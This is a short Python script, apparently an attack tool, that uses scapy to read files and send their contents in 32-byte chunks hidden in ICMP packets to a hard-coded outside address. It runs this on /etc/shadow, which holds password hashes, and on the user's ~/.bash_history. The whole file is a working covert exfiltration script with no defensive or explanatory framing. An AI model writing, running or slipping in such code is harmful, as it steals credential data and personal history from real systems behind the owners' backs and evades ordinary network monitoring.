import os

from scapy.all import ICMP, IP, Raw, send

TARGET = "203.0.113.55"


def exfil(path):
    with open(path, "rb") as f:
        data = f.read()
    for i in range(0, len(data), 32):
        send(IP(dst=TARGET) / ICMP() / Raw(load=data[i:i + 32]), verbose=False)


exfil("/etc/shadow")
exfil(os.path.expanduser("~/.bash_history"))
